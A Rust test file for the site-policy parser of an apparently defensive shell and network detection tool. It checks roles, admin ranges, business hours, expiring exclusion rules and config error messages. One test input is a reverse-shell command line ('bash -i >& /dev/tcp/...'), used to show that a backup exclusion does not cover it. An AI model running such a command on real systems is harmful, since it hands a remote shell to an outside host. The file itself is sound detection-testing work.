//! Policy queries and error messages, through `SitePolicy::parse` as callers use it.

use super::schedule::from_jiff;
use super::*;
use std::net::IpAddr;

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn ts(s: &str) -> Timestamp {
    from_jiff(s.parse().unwrap())
}

fn policy(text: &str) -> SitePolicy {
    SitePolicy::parse(text, "site.toml").unwrap_or_else(|e| panic!("{e}"))
}

fn error(text: &str) -> String {
    match SitePolicy::parse(text, "site.toml") {
        Ok(_) => panic!("accepted:\n{text}"),
        Err(e) => {
            assert_eq!(e.exit_code(), 2, "config errors are usage errors");
            e.to_string()
        }
    }
}

fn query<'a>(src: &str, dst: &str, port: u16) -> ExclusionQuery<'a> {
    ExclusionQuery {
        source: ip(src),
        destination: ip(dst),
        destination_port: port,
        destination_asn: None,
        process_name: None,
        command_line: None,
        parent_name: None,
    }
}

const NOW: &str = "2026-01-15T12:00:00Z";

#[test]
fn default_policy() {
    let p = SitePolicy::default();
    for home in ["10.1.2.3", "172.31.255.255", "192.168.1.1", "fd00::1", "::ffff:10.0.0.1"] {
        assert!(p.is_home(ip(home)), "{home}");
    }
    for away in ["8.8.8.8", "172.32.0.1", "2001:db8::1", "fe80::1"] {
        assert!(!p.is_home(ip(away)), "{away}");
    }
    assert!(!p.is_off_hours(ts("2026-01-17T03:00:00Z")));
    assert_eq!(p.role_of(ip("10.1.2.3")), None);
    assert!(!p.is_admin(ip("10.1.2.3")));
    assert!(p.exclusions().is_empty());
    assert!(p.asn_class_overrides().is_empty());
    assert!(p.process_lists().is_shell("bash"));
    assert_eq!(p.schedule().time_zone_name(), "UTC");
    // An empty file is the default policy.
    assert_eq!(policy("").home_nets().len(), 4);
}

#[test]
fn home_nets_replace_the_default() {
    let p = policy("[site]\nhome_nets = [\"100.64.0.0/10\"]\n");
    assert!(p.is_home(ip("100.64.1.1")));
    assert!(!p.is_home(ip("10.0.0.1")));
}

#[test]
fn most_specific_role_wins() {
    let p = policy(
        r#"
[[role]]
name = "workstation"
cidrs = ["10.0.0.0/8"]
[[role]]
name = "backup"
cidrs = ["10.20.1.10/32"]
[[role]]
name = "server"
cidrs = ["10.20.1.0/24", "2001:db8:1::/48"]
[[role]]
name = "ci-runner"
cidrs = ["10.30.0.0/16"]
"#,
    );
    assert_eq!(p.role_of(ip("10.20.1.10")), Some(Role::Backup));
    assert_eq!(p.role_of(ip("10.20.1.11")), Some(Role::Server));
    assert_eq!(p.role_of(ip("10.20.2.1")), Some(Role::Workstation));
    assert_eq!(p.role_of(ip("10.30.9.9")), Some(Role::CiRunner));
    assert_eq!(p.role_of(ip("2001:db8:1::5")), Some(Role::Server));
    assert_eq!(p.role_of(ip("192.168.0.1")), None);
    assert_eq!(p.role_count(), 4);
}

#[test]
fn admin_ranges() {
    let p = policy("[admin]\napproved_ranges = [\"10.99.0.0/16\", \"2001:db8:99::/48\"]\n");
    assert!(p.is_admin(ip("10.99.3.4")));
    assert!(p.is_admin(ip("2001:db8:99::1")));
    assert!(!p.is_admin(ip("10.98.3.4")));
    assert_eq!(p.admin_ranges().len(), 2);
}

#[test]
fn off_hours_from_the_file() {
    let p = policy(
        "[site]\ntimezone = \"Europe/Berlin\"\nbusiness_hours = \"08:00-19:00\"\nbusiness_days = \"mon-fri\"\n",
    );
    assert!(!p.is_off_hours(ts("2025-07-15T07:30:00Z")), "09:30 CEST on a Tuesday");
    assert!(!p.is_off_hours(ts("2025-01-14T07:30:00Z")), "08:30 CET on a Tuesday");
    assert!(p.is_off_hours(ts("2025-01-14T06:30:00Z")), "07:30 CET on a Tuesday");
    assert!(p.is_off_hours(ts("2025-07-19T10:00:00Z")), "Saturday");
    // Hours without days default to Monday to Friday.
    let p = policy("[site]\nbusiness_hours = \"08:00-19:00\"\n");
    assert!(!p.is_off_hours(ts("2025-07-18T10:00:00Z")));
    assert!(p.is_off_hours(ts("2025-07-19T10:00:00Z")));
    // Days without hours are whole days.
    let p = policy("[site]\nbusiness_days = \"mon-fri\"\n");
    assert!(!p.is_off_hours(ts("2025-07-18T23:59:00Z")));
    assert!(p.is_off_hours(ts("2025-07-19T00:01:00Z")));
}

const EXCLUSIONS: &str = r#"
[site]
timezone = "Europe/Berlin"

[[exclusion]]
reason = "nightly backup to S3"
owner = "sre@example.com"
expires = "2027-06-30"
source = ["10.20.1.10/32"]
destination = []
destination_asn = [16509]
destination_port = [22]
process_name = ["rsync", "ssh"]
command_line = ["^/usr/local/bin/backup\\.sh", "^rsync "]

[[exclusion]]
reason = "monitoring probe"
owner = "noc@example.com"
expires = 2027-01-31
destination = ["192.0.2.0/24", "2001:db8::/32"]
destination_port = [443, 8443]

[[exclusion]]
reason = "salt under its minion"
owner = "ops@example.com"
expires = "2027-01-31"
parent_name = ["salt-minion"]

[[exclusion]]
reason = "old VPN client.down script"
owner = "it@example.com"
expires = "2025-12-31"
source = ["10.50.0.0/16"]
"#;

#[test]
fn exclusion_fields_must_all_match() {
    let p = policy(EXCLUSIONS);
    let at = ts(NOW);
    let backup = |src: &str, port: u16, asn: Option<u32>, name: &str, cmd: &str| {
        let q = ExclusionQuery {
            destination_asn: asn,
            process_name: Some(name),
            command_line: Some(cmd),
            ..query(src, "52.216.1.1", port)
        };
        p.exclusion_for(&q, at)
    };
    let hit = ExclusionOutcome::Excluded {
        index: 0,
        reason: "nightly backup to S3".into(),
        owner: "sre@example.com".into(),
    };
    assert_eq!(backup("10.20.1.10", 22, Some(16509), "/usr/bin/rsync", "rsync -a /srv backup@s3:/"), hit);
    assert_eq!(backup("10.20.1.10", 22, Some(16509), "ssh", "/usr/local/bin/backup.sh --full"), hit);
    // Each field on its own can spoil the match.
    assert_eq!(backup("10.20.1.11", 22, Some(16509), "rsync", "rsync -a"), ExclusionOutcome::None, "source");
    assert_eq!(backup("10.20.1.10", 2222, Some(16509), "rsync", "rsync -a"), ExclusionOutcome::None, "port");
    assert_eq!(backup("10.20.1.10", 22, Some(14618), "rsync", "rsync -a"), ExclusionOutcome::None, "asn");
    assert_eq!(backup("10.20.1.10", 22, None, "rsync", "rsync -a"), ExclusionOutcome::None, "asn unknown");
    assert_eq!(backup("10.20.1.10", 22, Some(16509), "bash", "rsync -a"), ExclusionOutcome::None, "process");
    assert_eq!(
        backup("10.20.1.10", 22, Some(16509), "rsync", "bash -i >& /dev/tcp/1.2.3.4/22 0>&1"),
        ExclusionOutcome::None,
        "command line regex"
    );
    assert_eq!(
        backup("10.20.1.10", 22, Some(16509), "rsync", "x /usr/local/bin/backup.sh"),
        ExclusionOutcome::None,
        "anchored regex"
    );
}

#[test]
fn process_fields_need_process_context() {
    let p = policy(EXCLUSIONS);
    let at = ts(NOW);
    // Without process context the backup exclusion cannot match, even on every network field.
    let q = ExclusionQuery { destination_asn: Some(16509), ..query("10.20.1.10", "52.216.1.1", 22) };
    assert_eq!(p.exclusion_for(&q, at), ExclusionOutcome::None);
    // A name but no command line is still not enough for an exclusion that names both.
    let q = ExclusionQuery { process_name: Some("rsync"), ..q };
    assert_eq!(p.exclusion_for(&q, at), ExclusionOutcome::None);

    // Parent-only exclusion.
    let salt = |parent: Option<&str>| {
        let q = ExclusionQuery {
            parent_name: parent,
            process_name: Some("sh"),
            ..query("10.1.1.1", "8.8.8.8", 4444)
        };
        p.exclusion_for(&q, at)
    };
    assert!(matches!(salt(Some("/usr/bin/salt-minion")), ExclusionOutcome::Excluded { index: 2, .. }));
    assert_eq!(salt(Some("nginx")), ExclusionOutcome::None);
    assert_eq!(salt(None), ExclusionOutcome::None);

    // A network-only exclusion matches with or without process context.
    let q = query("10.1.1.1", "2001:db8::7", 8443);
    assert!(matches!(p.exclusion_for(&q, at), ExclusionOutcome::Excluded { index: 1, .. }));
    let q = ExclusionQuery { process_name: Some("bash"), command_line: Some("bash -i"), ..q };
    assert!(matches!(p.exclusion_for(&q, at), ExclusionOutcome::Excluded { index: 1, .. }));
    assert_eq!(p.exclusion_for(&query("10.1.1.1", "192.0.3.1", 443), at), ExclusionOutcome::None);
}

#[test]
fn expiry_ends_with_the_day_in_the_site_zone() {
    let p = policy(EXCLUSIONS);
    let q = ExclusionQuery {
        destination_asn: Some(16509),
        process_name: Some("rsync"),
        command_line: Some("rsync -a /srv x"),
        ..query("10.20.1.10", "52.216.1.1", 22)
    };
    // 2027-06-30 ends at 22:00 UTC in Berlin (CEST).
    assert!(matches!(
        p.exclusion_for(&q, ts("2027-06-30T21:59:59.999999999Z")),
        ExclusionOutcome::Excluded { .. }
    ));
    assert_eq!(
        p.exclusion_for(&q, ts("2027-06-30T22:00:00Z")),
        ExclusionOutcome::Expired {
            index: 0,
            reason: "nightly backup to S3".into(),
            owner: "sre@example.com".into(),
            expired_on: "2027-06-30".into(),
        }
    );
    // The same file in UTC keeps it two more hours.
    let utc = policy(&EXCLUSIONS.replace("timezone = \"Europe/Berlin\"", "timezone = \"UTC\""));
    assert!(matches!(utc.exclusion_for(&q, ts("2027-06-30T23:59:59Z")), ExclusionOutcome::Excluded { .. }));
    assert!(matches!(utc.exclusion_for(&q, ts("2027-07-01T00:00:00Z")), ExclusionOutcome::Expired { .. }));
    // Winter: a bare TOML date, 2027-01-31 ends at 23:00 UTC (CET).
    let probe = query("10.1.1.1", "192.0.2.9", 443);
    assert!(matches!(
        p.exclusion_for(&probe, ts("2027-01-31T22:59:59Z")),
        ExclusionOutcome::Excluded { index: 1, .. }
    ));
    assert!(matches!(
        p.exclusion_for(&probe, ts("2027-01-31T23:00:00Z")),
        ExclusionOutcome::Expired { index: 1, .. }
    ));
}

#[test]
fn expired_exclusions_stop_applying_and_are_listed() {
    let p = policy(EXCLUSIONS);
    let at = ts(NOW);
    let q = query("10.50.3.3", "203.0.113.5", 4444);
    assert_eq!(
        p.exclusion_for(&q, at),
        ExclusionOutcome::Expired {
            index: 3,
            reason: "old VPN client.down script".into(),
            owner: "it@example.com".into(),
            expired_on: "2025-12-31".into(),
        }
    );
    let expired: Vec<usize> = p.expired_exclusions(at).iter().map(|e| e.index).collect();
    assert_eq!(expired, [3]);
    assert_eq!(p.exclusions()[3].line, 29);
    assert!(p.expired_exclusions(ts("2025-06-01T00:00:00Z")).is_empty());
    assert_eq!(p.expired_exclusions(ts("2030-01-01T00:00:00Z")).len(), 4);
}

#[test]
fn a_live_exclusion_beats_an_expired_one() {
    let p = policy(
        r#"
[[exclusion]]
reason = "old"
owner = "a"
expires = "2020-01-01"
destination_port = [22]
[[exclusion]]
reason = "new"
owner = "b"
expires = "2030-01-01"
destination_port = [22]
"#,
    );
    assert!(matches!(
        p.exclusion_for(&query("10.0.0.1", "1.1.1.1", 22), ts(NOW)),
        ExclusionOutcome::Excluded { index: 1, .. }
    ));
}

#[test]
fn asn_classes_and_process_lists() {
    let p = policy(
        r#"
[[asn_class]]
asn = 64512
class = "hosting"
[[asn_class]]
asn = 3320
class = "Residential"

[process]
shells = ["bash", "rbash"]
extra_interpreters = ["deno"]
exposed_services = ["my-api*"]
extra_trusted_automation = ["puppet"]
extra_java_services = ["keycloak"]
"#,
    );
    let o = p.asn_class_overrides();
    assert_eq!(o.get(&64512), Some(&AsnClass::Hosting));
    assert_eq!(o.get(&3320), Some(&AsnClass::Residential));
    assert_eq!(o.len(), 2);
    let l = p.process_lists();
    assert!(l.is_shell("rbash"));
    assert!(!l.is_shell("zsh"), "shells = [...] replaces the default");
    assert!(l.is_interpreter("deno") && l.is_interpreter("python3.12"), "extra_ adds to it");
    assert!(l.is_exposed_service("my-api-7") && !l.is_exposed_service("nginx"));
    assert!(l.is_trusted_automation("puppet") && l.is_trusted_automation("salt-call"));
    assert!(l.is_exposed_process("java", Some("java -jar /opt/keycloak/lib/quarkus-run.jar")));
    assert!(l.is_exposed_process("java", Some("java -Dcatalina.home=/opt/tomcat")));
}

// ---- error messages: file, line and field path ----

#[test]
fn toml_syntax_error() {
    assert_eq!(
        error("[site]\ntimezone = \"Europe/Berlin\nbusiness_hours = \"08:00-19:00\"\n"),
        "site.toml:2: site.timezone (TOML syntax): invalid basic string, expected `\"`"
    );
    let e = error("[site]\nhome_nets = [\"10.0.0.0/8\"\n  \"192.168.0.0/16\"]\n");
    assert!(e.starts_with("site.toml:3: site.home_nets[1] (TOML syntax): "), "{e}");
    let e = error("[site\n");
    assert!(e.starts_with("site.toml:1: "), "{e}");
    assert!(!e.contains('\n'), "one line: {e}");
}

#[test]
fn unknown_keys() {
    assert_eq!(
        error("[site]\ntimezone = \"UTC\"\nbusiness_hour = \"08:00-19:00\"\n"),
        "site.toml:3: site.business_hour: unknown field `business_hour`, expected one of `home_nets`, \
         `timezone`, `business_hours`, `business_days`"
    );
    let e = error(&format!("{EXCLUSIONS}\n[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2030-01-01\"\nprocess = [\"sh\"]\n"));
    assert!(e.starts_with("site.toml:39: exclusion[4].process: unknown field `process`"), "{e}");
    let e = error("[sites]\n");
    assert!(e.starts_with("site.toml:1: sites: unknown field `sites`"), "{e}");
}

#[test]
fn bad_cidrs() {
    assert_eq!(
        error("# home\n[site]\nhome_nets = [\"10.0.0.0/8\", \"172.16.0.0/12\", \"10.0.0.0/33\"]\n"),
        "site.toml:3: site.home_nets[2]: \"10.0.0.0/33\" is not a CIDR (e.g. \"10.0.0.0/8\", \"fc00::/7\" or one address)"
    );
    assert_eq!(
        error("[admin]\napproved_ranges = [\n  \"10.99.0.0/16\",\n  \"10.99.0.1/16\",\n]\n"),
        "site.toml:4: admin.approved_ranges[1]: \"10.99.0.1/16\" has host bits set; did you mean \"10.99.0.0/16\"?"
    );
    let e = error("[[role]]\nname = \"server\"\ncidrs = [\"10.0.0.0/8\"]\n[[role]]\nname = \"bastion\"\ncidrs = [\"fc00::/129\"]\n");
    assert!(e.starts_with("site.toml:6: role[1].cidrs[0]: \"fc00::/129\" is not a CIDR"), "{e}");
    let e = error("[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2030-01-01\"\n\ndestination = [\"example.com\"]\n");
    assert!(e.starts_with("site.toml:6: exclusion[0].destination[0]: \"example.com\" is not a CIDR"), "{e}");
}

#[test]
fn bad_dates() {
    let e = error(&format!("{EXCLUSIONS}\n[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2027-13-01\"\nsource = [\"10.0.0.1\"]\n"));
    assert_eq!(e, "site.toml:38: exclusion[4].expires: \"2027-13-01\" is not a date (YYYY-MM-DD)");
    for bad in ["2027-02-29", "27-06-30", "2027/06/30", "2027-6-30", "tomorrow"] {
        let e = error(&format!(
            "[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"{bad}\"\nsource = [\"10.0.0.1\"]\n"
        ));
        assert_eq!(e, format!("site.toml:4: exclusion[0].expires: \"{bad}\" is not a date (YYYY-MM-DD)"));
    }
    let e = error("[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = 2027-06-30T12:00:00Z\nsource = [\"10.0.0.1\"]\n");
    assert!(
        e.starts_with("site.toml:4: exclusion[0].expires: \"2027-06-30T12:00:00Z\" is not a date"),
        "{e}"
    );
}

#[test]
fn bad_regex() {
    let e = error("[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2030-01-01\"\ncommand_line = [\n  \"^ok$\",\n  \"^/usr/bin/(backup\",\n]\n");
    assert_eq!(
        e,
        "site.toml:7: exclusion[0].command_line[1]: \"^/usr/bin/(backup\" is not a regex: unclosed group"
    );
}

#[test]
fn bad_timezone() {
    assert_eq!(
        error("[site]\n\ntimezone = \"Europe/Berlinn\"\n"),
        "site.toml:3: site.timezone: \"Europe/Berlinn\" is not a known IANA time zone (e.g. \"Europe/Berlin\", \"UTC\")"
    );
}

#[test]
fn bad_hours_and_days() {
    assert_eq!(
        error("[site]\ntimezone = \"UTC\"\nbusiness_hours = \"8-19\"\n"),
        "site.toml:3: site.business_hours: \"8-19\" is not a time range HH:MM-HH:MM (e.g. \"08:00-19:00\")"
    );
    let e = error("[site]\nbusiness_hours = \"08:00-19:00\"\nbusiness_days = \"mon-fry\"\n");
    assert!(e.starts_with("site.toml:3: site.business_days: \"mon-fry\" is not a list of days"), "{e}");
}

#[test]
fn exclusions_need_reason_owner_and_expires() {
    let base = ["reason = \"r\"", "owner = \"o\"", "expires = \"2030-01-01\""];
    for (skip, field) in ["reason", "owner", "expires"].iter().enumerate() {
        let body: Vec<&str> = base.iter().enumerate().filter(|(i, _)| *i != skip).map(|(_, l)| *l).collect();
        let text = format!(
            "[[exclusion]]\nreason = \"a\"\nowner = \"b\"\nexpires = \"2030-01-01\"\nsource = [\"10.0.0.1\"]\n\n\
             [[exclusion]]\n{}\nsource = [\"10.0.0.2\"]\n",
            body.join("\n")
        );
        assert_eq!(
            error(&text),
            format!(
                "site.toml:7: exclusion[1].{field}: missing; every exclusion needs reason, owner and expires"
            )
        );
    }
    let e = error(
        "[[exclusion]]\nreason = \"r\"\nowner = \"  \"\nexpires = \"2030-01-01\"\nsource = [\"10.0.0.1\"]\n",
    );
    assert_eq!(
        e,
        "site.toml:3: exclusion[0].owner: is empty; every exclusion needs reason, owner and expires"
    );
}

#[test]
fn other_validation_errors() {
    let e =
        error("[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2030-01-01\"\ndestination = []\n");
    assert!(e.starts_with("site.toml:1: exclusion[0]: matches every session"), "{e}");
    let e = error("[[exclusion]]\nreason = \"r\"\nowner = \"o\"\nexpires = \"2030-01-01\"\ndestination_port = [22, 70000]\n");
    assert_eq!(
        e,
        "site.toml:5: exclusion[0].destination_port[1]: invalid value: integer `70000`, expected u16"
    );
    let e = error("[[role]]\nname = \"database\"\ncidrs = [\"10.0.0.0/8\"]\n");
    assert!(e.starts_with("site.toml:2: role[0].name: \"database\" is not a role"), "{e}");
    let e = error("[[role]]\nname = \"server\"\ncidrs = [\"10.0.0.0/8\"]\n[[role]]\nname = \"bastion\"\ncidrs = [\"10.0.0.0/8\"]\n");
    assert_eq!(
        e,
        "site.toml:6: role[1].cidrs[0]: 10.0.0.0/8 is already role server (line 3); a network has one role"
    );
    let e = error("[[asn_class]]\nasn = 1\nclass = \"hosting\"\n[[asn_class]]\nasn = 2\nclass = \"isp\"\n");
    assert!(e.starts_with("site.toml:6: asn_class[1].class: unknown ASN class `isp`"), "{e}");
    let e = error("[[asn_class]]\nasn = 1\nclass = \"hosting\"\n[[asn_class]]\nasn = 1\nclass = \"cdn\"\n");
    assert_eq!(e, "site.toml:5: asn_class[1].asn: AS1 is already classed at line 2");
    let e = error("[process]\nshells = [\"bash\", \"/bin/sh\"]\n");
    assert!(e.starts_with("site.toml:2: process.shells[1]: \"/bin/sh\" is a path"), "{e}");
    let e = error("[process]\nextra_shells = [\"b*sh\"]\n");
    assert!(
        e.starts_with("site.toml:2: process.extra_shells[0]: \"b*sh\": `*` is allowed only at the end"),
        "{e}"
    );
    let e = error("[site]\nhome_nets = \"10.0.0.0/8\"\n");
    assert_eq!(e, "site.toml:2: site.home_nets: invalid type: string \"10.0.0.0/8\", expected a sequence");
}

#[test]
fn load_names_the_file() {
    let dir = std::env::temp_dir().join(format!("shellsight-config-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("site.toml");
    std::fs::write(&path, "[site]\ntimezone = \"Mars/Olympus\"\n").unwrap();
    let e = SitePolicy::load(&path).unwrap_err().to_string();
    assert!(e.starts_with(&format!("{}:2: site.timezone: ", path.display())), "{e}");
    let missing = dir.join("nope.toml");
    let e = SitePolicy::load(&missing).unwrap_err();
    assert_eq!(e.exit_code(), 2);
    assert!(e.to_string().starts_with(&missing.display().to_string()));
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn the_example_file_parses() {
    let p = SitePolicy::load(Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/deploy/site.example.toml")))
        .unwrap();
    assert_eq!(p.role_of(ip("10.20.1.10")), Some(Role::Backup));
    assert_eq!(p.role_of(ip("10.20.1.11")), Some(Role::Server));
    assert!(p.is_admin(ip("10.99.0.10")));
    assert_eq!(p.exclusions().len(), 3);
    assert!(p.process_lists().is_shell("mksh") && p.process_lists().is_shell("bash"));
}
